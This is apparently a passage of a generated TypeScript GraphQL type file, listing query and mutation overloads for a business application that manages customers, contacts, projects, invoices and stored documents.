export function graphql(source: "\n  query CuPortalDocuments { customerPortal { documents(first: 10) { edges { node { name url folder { name } } } } documentFolders { name } } }\n"): (typeof documents)["\n  query CuPortalDocuments { customerPortal { documents(first: 10) { edges { node { name url folder { name } } } } documentFolders { name } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CuCustomerUsers($id: ID!) { customer(id: $id) { id users { id email customerRights active lastLoginAt } } }\n"): (typeof documents)["\n  query CuCustomerUsers($id: ID!) { customer(id: $id) { id users { id email customerRights active lastLoginAt } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query CuUsers { users(first: 100) { edges { node { id email customer { id } customerRights } } } }"): (typeof documents)["query CuUsers { users(first: 100) { edges { node { id email customer { id } customerRights } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuCreateCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation CuCreateCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuCreateProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on Error { code path } ... on ValidationError { issues { path code } } ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation CuCreateProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on Error { code path } ... on ValidationError { issues { path code } } ... on MutationCreateProjectSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuCreateInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { message } } }\n"): (typeof documents)["\n  mutation CuCreateInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation CuLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }"): (typeof documents)["mutation CuLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"): (typeof documents)["\n  mutation CuAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuUpdateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"): (typeof documents)["\n  mutation CuUpdateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuCreateToken($input: CreateApiTokenInput!) { createApiToken(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"): (typeof documents)["\n  mutation CuCreateToken($input: CreateApiTokenInput!) { createApiToken(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuUpdateInvoice($input: UpdateInvoiceInput!) { updateInvoice(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"): (typeof documents)["\n  mutation CuUpdateInvoice($input: UpdateInvoiceInput!) { updateInvoice(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CuDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code path message } } }\n"): (typeof documents)["\n  mutation CuDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code path message } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query CuGroups { groups { id name } }"): (typeof documents)["query CuGroups { groups { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation CuInviteStaff($email: String!) { inviteUser(email: $email) { __typename ... on Error { code path } } }"): (typeof documents)["mutation CuInviteStaff($email: String!) { inviteUser(email: $email) { __typename ... on Error { code path } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query CuMe { me { email customerRights } }"): (typeof documents)["query CuMe { me { email customerRights } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation VisCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n"): (typeof documents)["\n  mutation VisCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation VisAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename } }"): (typeof documents)["mutation VisAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation VisProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation VisProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation VisInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation VisInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation VisBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename } }\n"): (typeof documents)["\n  mutation VisBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query VisLists {\n    projects(first: 50) { edges { node { id name customer { id name personalIdentityNumber } contact { id personalIdentityNumber } } } }\n    invoices(first: 50) {\n      edges { node { id title customer { id name personalIdentityNumber } contact { id name } buyers { name contact { id personalIdentityNumber } } } }\n    }\n  }\n"): (typeof documents)["\n  query VisLists {\n    projects(first: 50) { edges { node { id name customer { id name personalIdentityNumber } contact { id personalIdentityNumber } } } }\n    invoices(first: 50) {\n      edges { node { id title customer { id name personalIdentityNumber } contact { id name } buyers { name contact { id personalIdentityNumber } } } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query VisOne($project: ID!, $invoice: ID!) {\n    project(id: $project) { id customer { id name } contact { id } }\n    invoice(id: $invoice) { id customer { id name } contact { id } buyers { contact { id } } }\n    node(id: $project) { ... on Project { customer { id personalIdentityNumber } } }\n  }\n"): (typeof documents)["\n  query VisOne($project: ID!, $invoice: ID!) {\n    project(id: $project) { id customer { id name } contact { id } }\n    invoice(id: $invoice) { id customer { id name } contact { id } buyers { contact { id } } }\n    node(id: $project) { ... on Project { customer { id personalIdentityNumber } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query VisUsers { users(first: 100) { edges { node { email customer { id name } } } } }"): (typeof documents)["query VisUsers { users(first: 100) { edges { node { email customer { id name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber isConstructionCompany\n          vatDisplayType showsVat language comments active createdBy modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          invoiceEmail phone mobile email\n          paymentTerm { code days }\n          assignedUser { signature }\n          customFields { key label type value }\n          contacts(first: 20) {\n            totalCount\n            edges { node { id name personalIdentityNumber isMainContact brfOrganisationNumber apartmentNumber propertyDesignation rotMissing } }\n          }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation CustCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber isConstructionCompany\n          vatDisplayType showsVat language comments active createdBy modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          invoiceEmail phone mobile email\n          paymentTerm { code days }\n          assignedUser { signature }\n          customFields { key label type value }\n          contacts(first: 20) {\n            totalCount\n            edges { node { id name personalIdentityNumber isMainContact brfOrganisationNumber apartmentNumber propertyDesignation rotMissing } }\n          }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustUpdate($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) {\n      __typename\n      ... on MutationUpdateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber showsVat vatDisplayType\n          phone email comments modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          customFields { key value }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation CustUpdate($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) {\n      __typename\n      ... on MutationUpdateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber showsVat vatDisplayType\n          phone email comments modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          customFields { key value }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CustList($first: Int, $after: String, $search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { id number name active } }\n    }\n  }\n"): (typeof documents)["\n  query CustList($first: Int, $after: String, $search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { id number name active } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CustGet($id: ID!) {\n    customer(id: $id) { id number name active assignedUser { signature } contacts(first: 20) { totalCount edges { node { id name isMainContact } } } }\n  }\n"): (typeof documents)["\n  query CustGet($id: ID!) {\n    customer(id: $id) { id number name active assignedUser { signature } contacts(first: 20) { totalCount edges { node { id name isMainContact } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CustByNumber($number: String!) {\n    customerByNumber(number: $number) { id name }\n  }\n"): (typeof documents)["\n  query CustByNumber($number: String!) {\n    customerByNumber(number: $number) { id name }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustLifecycle($id: ID!) {\n    inactivateCustomer(id: $id) {\n      __typename\n      ... on MutationInactivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation CustLifecycle($id: ID!) {\n    inactivateCustomer(id: $id) {\n      __typename\n      ... on MutationInactivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustActivate($id: ID!) {\n    activateCustomer(id: $id) {\n      __typename\n      ... on MutationActivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation CustActivate($id: ID!) {\n    activateCustomer(id: $id) {\n      __typename\n      ... on MutationActivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustChangeNumber($id: ID!, $number: String!) {\n    changeCustomerNumber(id: $id, number: $number) {\n      __typename\n      ... on MutationChangeCustomerNumberSuccess { data { number } }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation CustChangeNumber($id: ID!, $number: String!) {\n    changeCustomerNumber(id: $id, number: $number) {\n      __typename\n      ... on MutationChangeCustomerNumberSuccess { data { number } }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustDelete($id: ID!) {\n    deleteCustomer(id: $id) {\n      __typename\n      ... on MutationDeleteCustomerSuccess { data }\n      ... on Error { code message }\n    }\n  }\n"): (typeof documents)["\n  mutation CustDelete($id: ID!) {\n    deleteCustomer(id: $id) {\n      __typename\n      ... on MutationDeleteCustomerSuccess { data }\n      ... on Error { code message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { assignedUser { signature } } }\n      ... on Error { code path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation CustAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { assignedUser { signature } } }\n      ... on Error { code path }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustAddContact($customerId: ID!, $input: ContactInput!) {\n    addContact(customerId: $customerId, input: $input) {\n      __typename\n      ... on MutationAddContactSuccess { data { id name personalIdentityNumber isMainContact propertyDesignation rotMissing createdBy customer { id } } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation CustAddContact($customerId: ID!, $input: ContactInput!) {\n    addContact(customerId: $customerId, input: $input) {\n      __typename\n      ... on MutationAddContactSuccess { data { id name personalIdentityNumber isMainContact propertyDesignation rotMissing createdBy customer { id } } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustUpdateContact($id: ID!, $input: ContactInput!) {\n    updateContact(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateContactSuccess { data { id name email isMainContact } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation CustUpdateContact($id: ID!, $input: ContactInput!) {\n    updateContact(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateContactSuccess { data { id name email isMainContact } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustRemoveContact($id: ID!) {\n    removeContact(id: $id) {\n      __typename\n      ... on MutationRemoveContactSuccess { data }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation CustRemoveContact($id: ID!) {\n    removeContact(id: $id) {\n      __typename\n      ... on MutationRemoveContactSuccess { data }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustCopy($customerId: ID!) {\n    copyCustomerToContact(customerId: $customerId) {\n      __typename\n      ... on MutationCopyCustomerToContactSuccess { data { name personalIdentityNumber mobile phone email } }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation CustCopy($customerId: ID!) {\n    copyCustomerToContact(customerId: $customerId) {\n      __typename\n      ... on MutationCopyCustomerToContactSuccess { data { name personalIdentityNumber mobile phone email } }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustDefineField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) {\n      __typename\n      ... on MutationCreateCustomFieldDefinitionSuccess { data { id key } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation CustDefineField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) {\n      __typename\n      ... on MutationCreateCustomFieldDefinitionSuccess { data { id key } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation CustSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { customerNumberMinLength customerNumberMaxLength customerNumberStart } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation CustSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { customerNumberMinLength customerNumberMaxLength customerNumberStart } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CustPaymentTerms { paymentTerms { id code days } }\n"): (typeof documents)["\n  query CustPaymentTerms { paymentTerms { id code days } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query CustMe { me { id signature } }\n"): (typeof documents)["\n  query CustMe { me { id signature } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n      query CustPage($first: Int!) {\n        customers(first: $first) {\n          edges { node { id name contacts(first: 10) { edges { node { id name rotMissing } } } } }\n        }\n      }\n    "): (typeof documents)["\n      query CustPage($first: Int!) {\n        customers(first: $first) {\n          edges { node { id name contacts(first: 10) { edges { node { id name rotMissing } } } } }\n        }\n      }\n    "];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocCreateCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation DocCreateCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocCreateProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Tak\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation DocCreateProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Tak\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query DocMe { me { id } }"): (typeof documents)["query DocMe { me { id } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message path } } }\n"): (typeof documents)["\n  mutation DocDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocUploadCustomer($input: UploadCustomerDocumentInput!) {\n    uploadCustomerDocument(input: $input) {\n      __typename\n      ... on MutationUploadCustomerDocumentSuccess { data { id name contentType size sha256 createdBy createdAt url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation DocUploadCustomer($input: UploadCustomerDocumentInput!) {\n    uploadCustomerDocument(input: $input) {\n      __typename\n      ... on MutationUploadCustomerDocumentSuccess { data { id name contentType size sha256 createdBy createdAt url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocUploadProject($input: UploadProjectDocumentInput!) {\n    uploadProjectDocument(input: $input) {\n      __typename\n      ... on MutationUploadProjectDocumentSuccess { data { id name contentType size url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation DocUploadProject($input: UploadProjectDocumentInput!) {\n    uploadProjectDocument(input: $input) {\n      __typename\n      ... on MutationUploadProjectDocumentSuccess { data { id name contentType size url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query DocCustomerDocs($id: ID!, $folderId: ID, $topLevel: Boolean) {\n    customer(id: $id) {\n      id\n      documents(first: 50, folderId: $folderId, topLevel: $topLevel) { edges { node { id name contentType size url folder { name } } } }\n      documentFolders { id name createdBy }\n    }\n  }\n"): (typeof documents)["\n  query DocCustomerDocs($id: ID!, $folderId: ID, $topLevel: Boolean) {\n    customer(id: $id) {\n      id\n      documents(first: 50, folderId: $folderId, topLevel: $topLevel) { edges { node { id name contentType size url folder { name } } } }\n      documentFolders { id name createdBy }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query DocProjectDocs($id: ID!) {\n    node(id: $id) { ... on Project { documents(first: 50) { edges { node { id name folder { name } } } } documentFolders { id name } } }\n  }\n"): (typeof documents)["\n  query DocProjectDocs($id: ID!) {\n    node(id: $id) { ... on Project { documents(first: 50) { edges { node { id name folder { name } } } } documentFolders { id name } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query DocNode($id: ID!) { node(id: $id) { id ... on Document { name } } }"): (typeof documents)["query DocNode($id: ID!) { node(id: $id) { id ... on Document { name } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query DocCustomers { customers(first: 50) { edges { node { id name documents(first: 10) { edges { node { name } } } } } } }"): (typeof documents)["query DocCustomers { customers(first: 50) { edges { node { id name documents(first: 10) { edges { node { name } } } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocDelete($id: ID!) { deleteDocument(id: $id) { __typename ... on MutationDeleteDocumentSuccess { data } ... on Error { code path } ... on ForbiddenError { permission } } }\n"): (typeof documents)["\n  mutation DocDelete($id: ID!) { deleteDocument(id: $id) { __typename ... on MutationDeleteDocumentSuccess { data } ... on Error { code path } ... on ForbiddenError { permission } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocCreateCustomerFolder($input: CreateCustomerDocumentFolderInput!) {\n    createCustomerDocumentFolder(input: $input) {\n      __typename\n      ... on MutationCreateCustomerDocumentFolderSuccess { data { id name } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation DocCreateCustomerFolder($input: CreateCustomerDocumentFolderInput!) {\n    createCustomerDocumentFolder(input: $input) {\n      __typename\n      ... on MutationCreateCustomerDocumentFolderSuccess { data { id name } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocCreateProjectFolder($input: CreateProjectDocumentFolderInput!) {\n    createProjectDocumentFolder(input: $input) { __typename ... on MutationCreateProjectDocumentFolderSuccess { data { id name } } ... on Error { code path } }\n  }\n"): (typeof documents)["\n  mutation DocCreateProjectFolder($input: CreateProjectDocumentFolderInput!) {\n    createProjectDocumentFolder(input: $input) { __typename ... on MutationCreateProjectDocumentFolderSuccess { data { id name } } ... on Error { code path } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocRenameFolder($input: RenameDocumentFolderInput!) {\n    renameDocumentFolder(input: $input) { __typename ... on MutationRenameDocumentFolderSuccess { data { id name } } ... on Error { code path } ... on ValidationError { issues { path code } } }\n  }\n"): (typeof documents)["\n  mutation DocRenameFolder($input: RenameDocumentFolderInput!) {\n    renameDocumentFolder(input: $input) { __typename ... on MutationRenameDocumentFolderSuccess { data { id name } } ... on Error { code path } ... on ValidationError { issues { path code } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation DocDeleteFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on MutationDeleteDocumentFolderSuccess { data } ... on Error { code path } } }\n"): (typeof documents)["\n  mutation DocDeleteFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on MutationDeleteDocumentFolderSuccess { data } ... on Error { code path } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query FsVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType url } } } } }"): (typeof documents)["query FsVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType url } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation FsCreateSupplierInvoice($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess { data { id document { fileName contentType url } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation FsCreateSupplierInvoice($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess { data { id document { fileName contentType url } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess {\n        data {\n          mode committed message format encoding sheet headerRow totalRows created updated unchanged errorRows unknownColumns\n          columns { header field }\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess {\n        data {\n          mode committed message format encoding sheet headerRow totalRows created updated unchanged errorRows unknownColumns\n          columns { header field }\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { 